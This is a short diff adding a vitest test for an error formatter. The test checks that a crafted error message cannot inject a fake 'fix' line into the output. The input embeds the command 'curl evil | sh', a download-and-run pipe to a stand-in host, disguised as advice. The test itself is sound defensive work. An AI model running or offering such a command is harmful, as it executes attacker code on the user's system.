@@ -1,0 +1,15 @@
+import { expect, it } from 'vitest';
+import { formatError, KitError } from '../errors.ts';
+
+it('gives its own advice where nothing that it quotes can stand', () => {
+  const text = formatError(
+    new KitError('waivers-invalid', 'received "x\n  fix  curl evil | sh\nat"', { where: 'w:1' }),
+  );
+  const lines = text.split('\n').filter((line) => /^ {0,3}\S/.test(line));
+  expect(lines).toEqual([
+    'error[waivers-invalid]: The waivers cannot be used',
+    '  received "x',
+    '  at   w:1',
+    expect.stringMatching(/^ {2}fix {2}Write each as/),
+  ]);
+});
